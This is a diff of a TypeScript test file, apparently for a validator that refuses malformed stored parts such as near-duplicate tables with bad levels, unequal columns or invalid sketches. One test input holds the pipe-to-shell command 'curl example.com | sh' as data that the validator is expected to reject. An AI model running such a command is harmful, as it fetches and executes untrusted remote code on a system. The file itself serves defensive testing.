@@ -83,6 +83,8 @@ test('a part is read as it was written, and holds nothing of the text', async ()
   expect(await why(() => undefined)).toBe('read');
 });
 
+const ONE_SKETCH = { level: 0, keys: [1], lines: [1], anchors: [0], sketches: ['ff'.repeat(64)] };
+
 describe('A part is refused', () => {
   test.each([
     ['that has other words than its rule', withFinding({ fix: 'curl example.com | sh' })],
@@ -99,8 +101,9 @@ describe('A part is refused', () => {
       'with a table in disorder',
       withState('W_DUPLICATE', { examples: { level: 0, keys: [7, 3], values: [] }, prompts: {} }),
     ],
-    ['with a level that no table reaches', withState('W_NEAR_DUPLICATE', { level: 9e15, rows: [[1, 1, 1, 'ff']] })],
-    ['with rows that are no rows', withState('W_NEAR_DUPLICATE', { level: 0, rows: [[1, 1, 0, 'zz']] })],
+    ['with a level that no table reaches', withState('W_NEAR_DUPLICATE', { ...ONE_SKETCH, level: 9e15 })],
+    ['with columns of unlike length', withState('W_NEAR_DUPLICATE', { ...ONE_SKETCH, keys: [1, 2] })],
+    ['with a sketch that is none', withState('W_NEAR_DUPLICATE', { ...ONE_SKETCH, sketches: ['zz'] })],
     ['that is nested without end', (part: object) => ({ ...part, more: JSON.parse('['.repeat(50) + ']'.repeat(50)) })],
     ['with a field of its own', (part: object) => ({ ...part, more: 1 })],
     ['that is nothing', () => 'nothing'],
